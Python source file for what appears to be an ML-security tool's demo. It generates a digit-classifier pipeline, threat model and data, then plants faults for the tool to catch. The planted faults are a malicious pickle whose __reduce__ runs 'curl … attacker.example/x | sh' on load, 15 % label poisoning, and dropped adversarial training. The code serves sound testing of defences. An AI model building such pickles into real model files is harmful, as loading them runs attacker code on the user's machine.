"""The demo system for ``modelshield pipeline run --demo``: a digit reader, its threat model, data, a base model
and ``pipeline.yaml``, all generated offline from scikit-learn's digits, plus the bad artefacts a lab plants.

- ``data/reference.csv``: the trusted sample the ingest screen learns from (and the base model was trained on);
  ``data/incoming.csv``: the new batch from the forms vendor; ``data/test.csv``: held-out records.
  Pixels are scaled to [0, 1]; the label column is ``label``.
- ``base-model/``: the vendor's base CNN (``modelshield.demo:DigitsCNN``, safetensors + ``model.json``).
- ``system.yaml``: the threat model; every control it claims is a stage of the pipeline.
- ``keys/signing.pem``: a fresh Ed25519 key that signs the model and the run record.

Plants: ``pickle`` drops a pickled "scaler" into the base model whose unpickling would run ``os.system`` (it
is written, never loaded); ``poison`` flips the labels of 15 % of the incoming batch; ``weak`` switches the
train stage to standard training, so the model ships without adversarial training.
"""

from __future__ import annotations

import pickle
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING, Literal

import numpy as np

from modelshield.core.errors import InputError

if TYPE_CHECKING:
    from torch import nn

    from modelshield.core.datasets import Dataset

TrainBase = Callable[["Dataset"], "nn.Module"]
Plant = Literal["pickle", "poison", "weak"]
PLANTS: tuple[str, ...] = ("pickle", "poison", "weak")
REFERENCE_ROWS = 800
POISON_FRACTION = 0.15

SYSTEM = """\
# The digit reader, as `modelshield threat check` reads it (docs/threat.md). Each control claimed below is
# enforced by a stage of pipeline.yaml; the threat stage fails if one is dropped and its threat is open.
name: Digit reader
description: >-
  Handwritten digits scanned by a forms vendor are screened on ingestion, used to fine-tune a base
  model shipped by a model vendor, assessed, signed, registered and served to a forms app.
elements:
  - {id: forms_vendor, kind: labelling_vendor, name: Forms vendor (labelled digit scans)}
  - {id: ml_engineer, kind: actor, name: ML engineer, privileged: true, mfa: true}
  - id: pipeline
    kind: process
    name: Secure pipeline (modelshield pipeline run)
    validates_input: true        # stage ingest: schema, outliers, label noise; quarantine gate
    audit_logged: true           # the signed run record and OpenLineage events
  - id: base_model
    kind: third_party_model
    name: Base digits model (vendor drop)
    source: model vendor
    format: safetensors
    scanned: true                # stage scan, before the train stage loads it
    verified: true               # digests pinned in the signed run record; a resume re-checks them
  - {id: training, kind: training_job, name: Training stage, classification: internal, audit_logged: true}
  - id: registry
    kind: model_registry
    name: Model registry
    classification: internal
    encrypted_at_rest: true
    access_controlled: true
    audit_logged: true
    signed_models: true          # stages sign, register (verifies the signature) and deploy (re-hashes)
  - id: reader_api
    kind: inference_endpoint
    name: Digit reader API
    classification: internal
    returns: labels
    rate_limited: true
    verifies_model_signature: true
    robustness_assessed: true    # stage assess: the fail_under gate
    audit_logged: true
  - {id: forms_app, kind: actor, name: Forms app (client)}
flows:
  - {id: scans_upload, source: forms_vendor, destination: pipeline, data: labelled digit scans, protocol: sftp,
     authenticated: true, encrypted: true, classification: internal}
  - {id: base_download, source: base_model, destination: pipeline, data: base model files, protocol: https,
     authenticated: true, encrypted: true, classification: public}
  - {id: training_data, source: pipeline, destination: training, data: accepted records, protocol: local,
     authenticated: true, encrypted: true, classification: internal}
  - {id: model_push, source: training, destination: registry, data: signed model, protocol: https,
     authenticated: true, encrypted: true, classification: internal}
  - {id: model_deploy, source: registry, destination: reader_api, data: promoted model, protocol: https,
     authenticated: true, encrypted: true, classification: internal}
  - {id: read_request, source: forms_app, destination: reader_api, data: digit images, protocol: https,
     authenticated: true, encrypted: true, classification: internal}
"""

PIPELINE = """\
# The digit reader's secure pipeline: `modelshield pipeline run pipeline.yaml --out runs/1`.
name: digit-reader
artifacts:
  system: system.yaml
  incoming: data/incoming.csv
  reference: data/reference.csv
  test-data: data/test.csv
  base-model: base-model
key: keys/signing.pem
stages:
  - name: threat
    kind: threat
    inputs: {{system: system}}
    policy: {{fail_on: high}}
  - name: ingest
    kind: ingest
    inputs: {{data: incoming, reference: reference}}
    outputs: {{accepted: training-data}}
    policy: {{label: label, max_quarantined_fraction: 0.15}}
  - name: scan
    kind: scan
    inputs: {{base: base-model}}
  - name: train
    kind: train
    inputs: {{data: training-data, base: base-model}}
    outputs: {{model: model}}
    policy: {{method: {method}, eps: 0.1, steps: 5, epochs: 6, label: label, input_shape: [1, 8, 8]}}
  - name: assess
    kind: assess
    inputs: {{model: model, data: test-data}}
    policy: {{eps: 0.1, fail_under: {{pgd: 0.6}}, samples: 200, label: label}}
  - name: privacy
    kind: privacy
    inputs: {{model: model, members: training-data, non_members: test-data}}
    policy: {{max_advantage: 0.3, max_epsilon: 8, samples: 300, label: label}}
  - name: scan-release
    kind: scan
    inputs: {{model: model}}
  - name: sbom
    kind: sbom
    inputs: {{model: model, data: training-data, test_data: test-data}}
    outputs: {{sbom: sbom}}
    policy: {{fail_on: high}}
  - name: sign
    kind: sign
    inputs: {{model: model}}
    outputs: {{signature: signature}}
  - name: register
    kind: register
    inputs: {{model: model, signature: signature, data: training-data}}
    policy: {{model_name: digit-reader, owner: ml-team, db: "sqlite:///registry.db"}}
  - name: deploy
    kind: deploy
    policy: {{stage: production}}
"""


def _csv(path: Path, x: np.ndarray, y: np.ndarray) -> None:
    import pandas as pd

    frame = pd.DataFrame(np.round(x, 4), columns=[f"p{i}" for i in range(x.shape[1])])
    frame["label"] = y
    path.parent.mkdir(parents=True, exist_ok=True)
    frame.to_csv(path, index=False)


class _Shell:
    """What a planted pickle calls when it is loaded: ``os.system`` (pickled by reference, never run here)."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, ("curl -s https://attacker.example/x | sh",)


def plant_pickle(model_dir: Path) -> Path:
    """A 'preprocessing scaler' whose unpickling would run a shell command: the classic malicious model file."""
    path = model_dir / "scaler.pkl"
    path.write_bytes(pickle.dumps({"mean": 0.0, "scale": 1.0, "hook": _Shell()}, protocol=4))
    return path


def plant_poison(incoming: Path, seed: int = 0) -> int:
    """Flip the labels of ``POISON_FRACTION`` of the incoming batch to another class; returns how many."""
    import pandas as pd

    frame = pd.read_csv(incoming)
    rng = np.random.default_rng(seed)
    rows = rng.choice(len(frame), int(len(frame) * POISON_FRACTION), replace=False)
    frame.loc[rows, "label"] = (frame.loc[rows, "label"] + rng.integers(1, 10, len(rows))) % 10
    frame.to_csv(incoming, index=False)
    return len(rows)


def write_demo(folder: Path, train_base: TrainBase, plant: str | None = None, seed: int = 0) -> Path:
    """Write the demo system into ``folder`` (which must be empty or new); returns its ``pipeline.yaml``.

    ``train_base`` trains the vendor's base network (``modelshield.demo:DigitsCNN``) on the reference set. It is
    handed in, as in ``assess.poisoning``: the demo module sits above the library, so the CLI passes its trainer.
    """
    from modelshield.core.datasets import Dataset, sklearn_dataset
    from modelshield.core.loading import save_torch_model
    from modelshield.defenses.training.history import write_json_atomic
    from modelshield.integrity.signing import generate_key_pair

    if plant is not None and plant not in PLANTS:
        raise InputError(f"--plant must be one of {', '.join(PLANTS)}, not {plant!r}")
    if folder.exists() and any(folder.iterdir()):
        raise InputError(f"{folder} is not empty; the demo writes into a new folder")
    train, test = sklearn_dataset("digits", "train", seed=seed), sklearn_dataset("digits", "test", seed=seed)
    x, y = train.x.reshape(len(train), -1).numpy(), train.y.numpy()
    _csv(folder / "data/reference.csv", x[:REFERENCE_ROWS], y[:REFERENCE_ROWS])
    _csv(folder / "data/incoming.csv", x[REFERENCE_ROWS:], y[REFERENCE_ROWS:])
    _csv(folder / "data/test.csv", test.x.reshape(len(test), -1).numpy(), test.y.numpy())
    reference = Dataset(train.x[:REFERENCE_ROWS], train.y[:REFERENCE_ROWS], "reference", (0.0, 1.0))
    net = train_base(reference)
    base = folder / "base-model"
    base.mkdir(parents=True)
    save_torch_model(net, base / "model.safetensors")
    arch = {"arch": "modelshield.demo:DigitsCNN", "arch_kwargs": {"num_classes": 10}}
    sidecar = {**arch, "input_shape": list(train.x.shape[1:]), "num_classes": 10, "bounds": [0.0, 1.0]}
    write_json_atomic(base / "model.json", {**sidecar, "trained_on": "data/reference.csv"})
    (folder / "system.yaml").write_text(SYSTEM, encoding="utf-8")
    (folder / "keys").mkdir(mode=0o700)
    generate_key_pair("ed25519", folder / "keys/signing.pem")
    method = "standard" if plant == "weak" else "pgd"
    text = PIPELINE.format(method=method)
    if plant == "weak":
        text = text.replace("eps: 0.1, steps: 5, epochs", "epochs")  # standard training takes no ε or steps
    (folder / "pipeline.yaml").write_text(text, encoding="utf-8")
    if plant == "pickle":
        plant_pickle(base)
    elif plant == "poison":
        plant_poison(folder / "data/incoming.csv", seed)
    return folder / "pipeline.yaml"


__all__ = ["PLANTS", "plant_pickle", "plant_poison", "write_demo"]
